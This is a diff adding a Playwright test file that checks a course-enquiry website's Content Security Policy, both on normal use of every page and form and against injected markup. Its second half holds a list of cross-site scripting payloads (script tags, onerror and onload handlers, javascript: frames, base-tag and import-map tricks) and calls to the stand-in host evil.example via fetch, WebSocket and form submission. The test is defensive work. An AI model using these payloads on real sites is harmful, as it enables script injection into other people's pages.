@@ -1,0 +1,244 @@
+/**
+ * The policy of each page in a browser: what the site does is allowed, on every page and in every state; what
+ * somebody puts into a page is not.
+ */
+import type { Page } from '@playwright/test';
+import { routes } from '@/lib/content';
+import { loadContent } from '@/lib/content/load';
+import { expect, test, watch } from '../fixtures';
+
+const content = loadContent();
+const paths = [...routes(content).flatMap((route) => [route.path, ...route.aliases]), '/no-such-page'];
+
+/** Policy violations of a page and its frames, as they come. */
+async function violationsOf(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeFunction('violated', (text: string) => violations.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (e) => {
+      (window as unknown as { violated(text: string): void }).violated(
+        `${location.pathname}: ${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile ?? ''}:${e.lineNumber} ${e.sample}`,
+      );
+    });
+  });
+  // Maps are another host's: an empty page stands for them.
+  await page.route(/^https:/, (route) => route.fulfill({ contentType: 'text/html', body: '<p>map</p>' }));
+  return violations;
+}
+
+/** Brings React into the page, as a focus within an island does. */
+async function hydrate(page: Page) {
+  const islands = page.locator('[data-island]');
+  if ((await islands.count()) === 0) return;
+  await islands.first().dispatchEvent('focusin');
+  await expect(page.locator('[data-island]:not([data-ready])')).toHaveCount(0);
+}
+
+/** Rests on a link, opens whatever opens, presses every button that stands in the page, types, and closes again. */
+async function use(page: Page) {
+  await page.locator('main a[href^="/"]').first().dispatchEvent('pointerover');
+  await page.evaluate(async () => {
+    const turn = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+    for (const details of document.querySelectorAll('details')) details.open = true;
+    for (const button of document.querySelectorAll<HTMLButtonElement>('main button:not([type=submit]), #popup button[data-open]')) {
+      button.click();
+      await turn(10);
+      document.querySelector<HTMLButtonElement>('dialog:modal form[method=dialog] button')?.click();
+    }
+    for (const input of document.querySelectorAll<HTMLInputElement>('input:not([readonly]), textarea')) {
+      input.value = 'a';
+      input.dispatchEvent(new Event('input', { bubbles: true }));
+    }
+    for (const close of document.querySelectorAll<HTMLButtonElement>('dialog[open] form[method=dialog] button')) close.click();
+    scrollTo(0, document.body.scrollHeight);
+    // The rest of 100 ms, after which the link's page is asked for.
+    await turn(150);
+  });
+}
+
+test.describe('nothing is blocked', () => {
+  for (let part = 0; part < 4; part++) {
+    test(`on any page, hydrated and used, part ${part + 1} of 4`, async ({ page, site }) => {
+      test.setTimeout(120_000);
+      const violations = await violationsOf(page);
+      const errors: string[] = [];
+      watch(page, errors);
+      for (const at of paths.filter((_, i) => i % 4 === part)) {
+        await page.goto(site + at);
+        await hydrate(page);
+        await use(page);
+        expect(violations, at).toEqual([]);
+        expect(
+          errors.filter((text) => !/404 \(Not Found\)/.test(text) || paths.includes(at)).filter((text) => !/404/.test(text)),
+          at,
+        ).toEqual([]);
+      }
+    });
+  }
+
+  for (const [form, at] of [
+    ['general', '/'],
+    ['general', '/enquiry'],
+    ['course', '/courseinquiry?course=autocad'],
+  ] as const) {
+    test(`by the ${form} form on ${at}: refused, failed, sent`, async ({ page, host }) => {
+      const violations = await violationsOf(page);
+      await page.goto(at);
+      const view = page.locator(`#${form}-enquiry`);
+      const open = page.locator('#popup [data-open]:visible');
+      await expect(view.or(open).first()).toBeVisible();
+      if (await open.isVisible()) await open.click();
+      await view.getByRole('button', { name: 'Submit' }).click();
+      await expect(view.locator('[aria-invalid=true]').first()).toBeVisible();
+      await view.locator('[name=name]').fill('A Visitor');
+      await view.locator('[name=mobile]').fill('0000000000');
+      await view.locator('[name=email]').fill('visitor@example.com');
+      if (form === 'general') await view.locator('[name=enquiry]').fill('When does the next batch begin?');
+      host.setMode({ kind: 'status', status: 500 });
+      await view.getByRole('button', { name: 'Submit' }).click();
+      await expect(page.getByText('Failed to submit inquiry. Please try again.')).toBeVisible();
+      host.setMode({ kind: 'ok' });
+      await view.getByRole('button', { name: 'Submit' }).click();
+      await expect(page.getByText('Enquiry submitted successfully!')).toBeVisible();
+      expect(violations).toEqual([]);
+    });
+  }
+
+  test('closing a dialog is not a form that goes anywhere', async ({ page }) => {
+    const violations = await violationsOf(page);
+    await page.goto('/career');
+    await page.getByRole('button', { name: 'See Current Opportunities' }).click();
+    await page.locator('#positions').getByRole('button', { name: 'Close' }).click();
+    await expect(page.locator('#positions')).toBeHidden();
+    await expect(page.locator('#popup')).toBeVisible();
+    await page.locator('#popup').getByRole('button', { name: 'Close' }).click();
+    await expect(page.locator('#popup')).toBeHidden();
+    expect(page.url()).toMatch(/\/career$/);
+    expect(violations).toEqual([]);
+  });
+});
+
+test.describe('what is put into a page does not run', () => {
+  const PUT: Record<string, string> = {
+    'a script': '<script>window.hit = 1</script>',
+    'a module': '<script type="module">window.hit = 1</script>',
+    'a script from another host': '<script src="https://evil.example/x.js"></script>',
+    'a script as data': '<script src="data:text/javascript,window.hit=1"></script>',
+    'a picture of ours as script': '<script src="/drawings/autocad.svg"></script>',
+    'an event handler': '<img src="/nope.png" onerror="window.hit = 1">',
+    'an event handler in SVG': '<svg onload="window.hit = 1"></svg>',
+    'a frame with a script': '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
+    'a frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
+    'a javascript: frame': '<iframe src="javascript:parent.hit=1"></iframe>',
+    'an object': '<object data="https://evil.example/x.html"></object>',
+    'a style': '<style>body { display: none }</style>',
+    'an inline style': '<p style="position:fixed;inset:0;z-index:99" id="cover">x</p>',
+    'a stylesheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/x.css">',
+    'a picture from elsewhere': '<img src="https://evil.example/x.png">',
+    'a refresh that runs': '<meta http-equiv="refresh" content="0;url=javascript:window.hit=1">',
+    'an import map': '<script type="importmap">{"imports":{"a":"https://evil.example/x.js"}}</script>',
+  };
+  for (const [name, markup] of Object.entries(PUT)) {
+    test(`${name}, written into the file`, async ({ page, site }) => {
+      const violations = await violationsOf(page);
+      const asked: string[] = [];
+      await page.route('**/privacy', async (route) => {
+        const response = await route.fetch();
+        await route.fulfill({ response, body: (await response.text()).replace('<main', `${markup}<main`) });
+      });
+      await page.route('https://evil.example/**', (route) => {
+        asked.push(route.request().url());
+        return route.fulfill({ contentType: 'text/javascript', body: 'window.hit = 1; parent.hit = 1' });
+      });
+      await page.goto(`${site}/privacy`);
+      await page.waitForTimeout(100);
+      expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
+      await expect(page.locator('main')).toBeVisible();
+      if (name === 'an inline style') expect(await page.locator('#cover').evaluate((e) => getComputedStyle(e).position)).toBe('static');
+      expect(asked).toEqual([]);
+      if (!/refresh|javascript: frame|picture of ours/.test(name)) expect(violations.length).toBeGreaterThan(0);
+    });
+  }
+
+  test('a base, written into the file, moves no link', async ({ page, site }) => {
+    const violations = await violationsOf(page);
+    await page.route('**/privacy', async (route) => {
+      const response = await route.fetch();
+      await route.fulfill({ response, body: (await response.text()).replace('</title>', '</title><base href="https://evil.example/">') });
+    });
+    await page.goto(`${site}/privacy`);
+    expect(await page.evaluate(() => new URL('x', document.baseURI).origin)).toBe(site);
+    expect(violations.length).toBeGreaterThan(0);
+  });
+
+  test('text as code, a script, a form, a call or a worker, from a script that got in', async ({ page, site }) => {
+    await violationsOf(page);
+    await page.goto(`${site}/privacy`);
+    await hydrate(page);
+    const done = await page.evaluate(async () => {
+      const tried = async (run: () => unknown) => {
+        try {
+          await run();
+          return true;
+        } catch {
+          return false;
+        }
+      };
+      const script = document.createElement('script');
+      script.text = 'window.hit = 1';
+      document.head.append(script);
+      const link = document.createElement('a');
+      link.href = 'javascript:window.hit=1';
+      document.body.append(link);
+      link.click();
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+      const answers = {
+        // A timer's turn: what the test driver runs itself is exempt.
+        eval: await tried(
+          () =>
+            new Promise((resolve, reject) =>
+              setTimeout(() => {
+                try {
+                  resolve(new Function('return 1')());
+                } catch (error) {
+                  reject(error);
+                }
+              }),
+            ),
+        ),
+        fetch: await tried(() => fetch('https://evil.example/')),
+        worker: await tried(
+          () =>
+            new Promise((resolve, reject) =>
+              Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: resolve, onerror: reject }),
+            ),
+        ),
+        socket: await tried(() => new Promise((resolve, reject) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: resolve, onerror: reject }))),
+      };
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      return { ...answers, hit: (window as unknown as { hit?: number }).hit ?? 0, at: location.pathname };
+    });
+    expect(done).toEqual({ eval: false, fetch: false, worker: false, socket: false, hit: 0, at: '/privacy' });
+  });
+
+  test('the address of the 404 page and of the course form is shown as text only', async ({ page, site }) => {
+    const violations = await violationsOf(page);
+    for (const at of [
+      '/%3Cimg%20src=x%20onerror=alert(1)%3E',
+      '/autocadd%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
+      '/courseinquiry?course=%3Cimg%20src=x%20onerror=alert(1)%3E',
+      '/courseinquiry?course=__proto__',
+      '/courseinquiry?course=constructor',
+      '/%E0%A4%A',
+    ]) {
+      await page.goto(site + at);
+      expect(await page.locator('img[src="x"]').count(), at).toBe(0);
+    }
+    await page.goto(`${site}/courseinquiry?course=__proto__`);
+    await expect(page.locator('[name=courseName]')).toHaveValue('');
+    expect(violations).toEqual([]);
+  });
+});
